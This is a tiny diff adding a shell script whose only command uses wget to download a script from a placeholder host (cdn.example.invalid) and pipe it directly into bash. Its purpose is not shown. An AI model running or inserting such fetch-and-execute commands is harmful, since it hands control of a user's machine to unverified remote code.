@@ -0,0 +1,2 @@
+#!/bin/sh
+wget -qO- https://cdn.example.invalid/release.sh | bash